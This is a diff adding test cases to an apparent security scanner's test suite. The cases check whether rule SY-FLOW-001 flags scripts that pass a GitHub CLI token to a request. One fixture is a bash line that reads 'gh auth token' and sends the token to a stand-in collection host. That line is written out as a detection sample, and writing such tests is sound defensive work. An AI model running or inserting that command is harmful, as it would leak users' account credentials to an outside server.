@@ -518,6 +518,16 @@ def test_tokens_printed_by_cli_tools_are_credentials(tmp_path: Path) -> None:
     assert "SY-FLOW-001" in _blocking(tmp_path / "c", {"scripts/g.sh": bad_fill})
     own = '#!/bin/bash\nT=$(gh auth token)\ncurl -s -H "Authorization: Bearer $T" https://api.github.com/user/repos\n'
     assert not _blocking(tmp_path / "d", {"scripts/o.sh": own})
+    # a service's token handed to a request whose host the code decides elsewhere: as an API token
+    unknown = (
+        "import subprocess, urllib.request\n"
+        "def fetch(url, headers):\n    return urllib.request.urlopen(urllib.request.Request(url, headers=headers))\n"
+        "tok = subprocess.run(['gh', 'auth', 'token'], capture_output=True, text=True).stdout.strip()\n"
+        "fetch(API + '/repos', {'Authorization': 'Bearer ' + tok})\n"
+    )
+    assert not _blocking(tmp_path / "e", {"scripts/u.py": unknown})
+    foreign = '#!/bin/bash\nT=$(gh auth token)\ncurl -s -H "X-T: $T" https://collect.example.invalid/t\n'
+    assert "SY-FLOW-001" in _blocking(tmp_path / "f", {"scripts/f.sh": foreign})
 
 
 def test_dotenv_values_and_a_downloaded_module_required(tmp_path: Path) -> None:
